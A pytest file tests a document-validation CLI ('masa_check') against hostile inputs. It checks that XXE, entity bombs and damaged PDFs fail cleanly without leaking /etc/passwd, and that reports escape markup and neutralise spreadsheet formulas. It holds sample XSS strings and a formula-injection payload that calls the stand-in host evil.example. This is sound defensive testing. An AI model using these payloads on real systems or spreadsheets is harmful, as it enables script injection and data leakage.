"""Broken and hostile inputs through the real CLI: exit 2, one clear line, no traceback, no leak.

The corpus is generated into tmp_path by ``hostile_corpus`` (also used by benchmarks/hostile.py).
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))

import hostile_corpus as corpus  # noqa: E402

pytest.importorskip("reportlab")
pytest.importorskip("docx")


def run(*args: str, tmp_path: Path, cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(tmp_path / "home"),
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
        "NO_COLOR": "1",
        "CI": "1",
    }
    if os.environ.get("PYTHONPATH"):  # a worktree's source, not the installed package
        env["PYTHONPATH"] = os.environ["PYTHONPATH"]
    return subprocess.run(
        [sys.executable, "-m", "masa_check", "validate", *args],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=cwd,
        env=env,
    )


def digest(path: Path) -> str | None:
    if not path.is_file():
        return None
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError:
        return None


def assert_clean_failure(proc: subprocess.CompletedProcess, path: Path, pattern: str) -> str:
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out, out
    assert proc.returncode == 2, f"exit {proc.returncode}; stderr={proc.stderr!r}; stdout={proc.stdout[:500]!r}"
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, f"expected one line on stderr, got {lines!r}"
    line = lines[0]
    assert "internal error" not in line, line
    assert line.startswith("masa-check: error: "), line
    assert str(path) in line, f"message does not name the file: {line!r}"
    assert re.search(pattern, line, re.IGNORECASE), f"{line!r} does not match {pattern!r}"
    assert len(line) < 1000, f"message too long for one clear line: {line!r}"
    return line


@pytest.mark.parametrize("name", list(corpus.CASES))
def test_hostile_input(name, tmp_path):
    build, pattern, extra = corpus.CASES[name]
    folder = tmp_path / "in"
    folder.mkdir()
    path = build(folder)
    before = digest(path)
    proc = run(str(path), *extra, tmp_path=tmp_path)
    line = assert_clean_failure(proc, path, pattern)
    assert digest(path) == before, "masa-check modified its input"
    # nothing executed, nothing leaked
    assert not (folder / corpus.PWNED_MARKER).exists()
    passwd = Path(corpus.XXE_TARGET)
    if passwd.is_file():
        first = passwd.read_text(errors="replace").splitlines()[0]
        assert first not in proc.stdout + proc.stderr
    assert "\x1b[" not in line


def test_unreadable_file(tmp_path):
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        pytest.skip("root can read a chmod 000 file")
    p = tmp_path / "secret.yaml"
    p.write_text(corpus.MINIMAL_YAML)
    p.chmod(0)
    try:
        assert_clean_failure(run(str(p), tmp_path=tmp_path), p, r"permission denied|cannot be read")
    finally:
        p.chmod(0o644)


@pytest.mark.parametrize("suffix", [".pdf", ".docx"])
def test_unreadable_document(tmp_path, suffix):
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        pytest.skip("root can read a chmod 000 file")
    p = tmp_path / f"secret{suffix}"
    (corpus.valid_pdf if suffix == ".pdf" else corpus.valid_docx)(p)
    p.chmod(0)
    try:
        assert_clean_failure(run(str(p), tmp_path=tmp_path), p, r"permission denied|cannot be read")
    finally:
        p.chmod(0o644)


def test_directory_of_broken_files_reports_each(tmp_path):
    """Several bad files (checked in parallel workers): one line per file, exit 2, no traceback."""
    d = tmp_path / "docs"
    d.mkdir()
    names = ["yaml-duplicate-key", "pdf-encrypted", "docx-xxe", "yaml-alias-bomb", "pdf-image-only"]
    paths = [corpus.CASES[n][0](d) for n in names]
    proc = run(str(d), "--jobs", "2", tmp_path=tmp_path)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stdout + proc.stderr
    errors = [ln for ln in proc.stderr.splitlines() if ln.startswith("masa-check: error: ")]
    assert len(errors) == len(paths), proc.stderr
    for p in paths:
        assert sum(str(p) in ln for ln in errors) == 1, (p, errors)


def test_directory_with_one_bad_file_still_reports_the_good_one(tmp_path):
    d = tmp_path / "docs"
    d.mkdir()
    good = corpus.valid_docx(d / "good.docx")
    bad = corpus.CASES["docx-billion-laughs"][0](d)
    proc = run(str(d), "--format", "json", tmp_path=tmp_path)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    assert str(good) in proc.stdout
    errors = [ln for ln in proc.stderr.splitlines() if "error" in ln]
    assert len(errors) == 1 and str(bad) in errors[0] and "DTD or entity" in errors[0], proc.stderr


def test_damaged_pdf_is_recovered_or_refused_clearly(tmp_path):
    """A PDF whose cross-reference table is wrong: pdfium rebuilds it; the text must come through."""
    p = corpus.valid_pdf(tmp_path / "damaged.pdf")
    data = bytearray(p.read_bytes())
    xref = data.rfind(b"\nxref")
    # corrupt every offset in the xref table (keeps the file length)
    table = bytes(data[xref:])
    table = re.sub(rb"\d{10} 00000 n", b"9999999999 00000 n", table)
    data[xref:] = table
    p.write_bytes(bytes(data))
    before = digest(p)
    proc = run(str(p), "--format", "json", tmp_path=tmp_path)
    assert "Traceback" not in proc.stdout + proc.stderr
    assert digest(p) == before
    if proc.returncode == 2:
        assert_clean_failure(proc, p, r"not a readable PDF")
    else:
        assert proc.returncode in (0, 1), proc.stderr
        assert "independent scrutineer" in proc.stdout.lower() or '"results"' in proc.stdout


def test_truncated_pdf_midway(tmp_path):
    """Cut in the middle of the page content: recover what can be recovered, or say it cannot be read."""
    full = corpus.valid_pdf(tmp_path / "full.pdf", pages=3)
    data = full.read_bytes()
    p = tmp_path / "half.pdf"
    p.write_bytes(data[: int(len(data) * 0.7)])
    proc = run(str(p), tmp_path=tmp_path)
    assert "Traceback" not in proc.stdout + proc.stderr
    if proc.returncode == 2:
        assert_clean_failure(proc, p, r"not a readable PDF|no text layer")
    else:
        assert proc.returncode in (0, 1)


def test_xxe_in_valid_looking_docx_leaks_nothing_in_any_format(tmp_path):
    """Even asked for every report format, an entity pointing at /etc/passwd is never resolved."""
    path = corpus.CASES["docx-xxe-utf16"][0](tmp_path)
    out = tmp_path / "out"
    proc = run(
        str(path),
        *("--format", f"json:{out}/r.json", "--format", f"html:{out}/r.html", "--format", f"csv:{out}/r.csv"),
        tmp_path=tmp_path,
    )
    assert "Traceback" not in proc.stdout + proc.stderr
    passwd = Path(corpus.XXE_TARGET)
    if passwd.is_file():
        secret = passwd.read_text(errors="replace").splitlines()[0]
        files = list(out.glob("*")) if out.exists() else []
        blobs = [proc.stdout, proc.stderr] + [f.read_text(errors="replace") for f in files]
        for blob in blobs:
            assert secret not in blob


# -------------------------------------------------------------------------------------- reports

EVIL_PARAGRAPHS = [
    "Northshire <script>alert('title')</script> Safeguarding Arrangements",
    "Published: 3 March 2025",
    '=HYPERLINK("http://evil.example/?leak","click") The partnership budget for 2025/26 is £412,000.',
    "<script>alert(1)</script> Independent scrutiny is provided by an independent scrutineer appointed by the "
    "partners.",
    "-2+3 The lead safeguarding partners are the chief executive of the council, the chief executive of the ICB "
    "and the chief constable.",
]
DANGEROUS = ("=", "+", "-", "@")


def test_reports_escape_markup_and_neutralise_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    work = tmp_path / "work"
    work.mkdir()
    name = "=1+2.docx"  # the document path itself lands in a spreadsheet cell
    src = corpus.valid_docx(work / name, EVIL_PARAGRAPHS)
    before = digest(src)
    formats = ["json:r.json", "html:r.html", "csv:r.csv", "xlsx:r.xlsx", "md:r.md"]
    proc = run(name, *[a for f in formats for a in ("--format", f)], tmp_path=tmp_path, cwd=work)
    assert proc.returncode in (0, 1), proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    assert digest(src) == before

    # the hostile text really reached the reports (otherwise this test proves nothing)
    raw = (work / "r.json").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" in raw and "=HYPERLINK(" in raw

    html = (work / "r.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(" not in html
    assert not re.search(r"<script\b(?![^>]*\bsrc=)[^>]*>\s*alert", html, re.IGNORECASE)

    with open(work / "r.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert any(name in c for c in cells)
    for c in cells:
        assert not c.startswith(DANGEROUS), f"CSV cell would run as a formula: {c[:60]!r}"
        assert not c.startswith(("\t", "\r")), c[:60]

    wb = openpyxl.load_workbook(work / "r.xlsx")
    seen = False
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if not isinstance(v, str):
                    continue
                seen = seen or "HYPERLINK" in v
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {v[:60]!r}"
                assert not v.startswith(DANGEROUS), f"{ws.title}!{cell.coordinate}: {v[:60]!r}"
    assert seen


# -------------------------------------------------------------------------------------- outputs


def _temp_leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".")]


def test_report_never_overwrites_an_input(tmp_path):
    src = corpus.valid_docx(tmp_path / "doc.docx")
    before = digest(src)
    proc = run(str(src), "--format", f"json:{src}", tmp_path=tmp_path)
    assert_clean_failure(proc, src, r"refusing to overwrite an input")
    assert digest(src) == before
    assert _temp_leftovers(tmp_path) == []


def test_outputs_are_written_atomically(tmp_path):
    """The target is replaced in one step: no temporary files left behind, no half-written report."""
    src = corpus.valid_docx(tmp_path / "doc.docx")
    out = tmp_path / "reports"
    out.mkdir()
    (out / "r.json").write_text("old report")
    proc = run(str(src), "--format", f"json:{out}/r.json", "--format", f"xlsx:{out}/r.xlsx", tmp_path=tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    assert _temp_leftovers(out) == []
    import json

    assert json.loads((out / "r.json").read_text())["schema_version"] == 1
    assert (out / "r.xlsx").read_bytes()[:2] == b"PK"


def test_unwritable_report_target_is_a_clear_error(tmp_path):
    src = corpus.valid_docx(tmp_path / "doc.docx")
    target = tmp_path / "a-directory"
    target.mkdir()
    proc = run(str(src), "--format", f"json:{target}", tmp_path=tmp_path)
    assert proc.returncode == 2
    assert _temp_leftovers(target) == []
    errors = [ln for ln in proc.stderr.splitlines() if "error" in ln]
    assert len(errors) == 1 and "internal error" not in errors[0] and str(target) in errors[0], proc.stderr
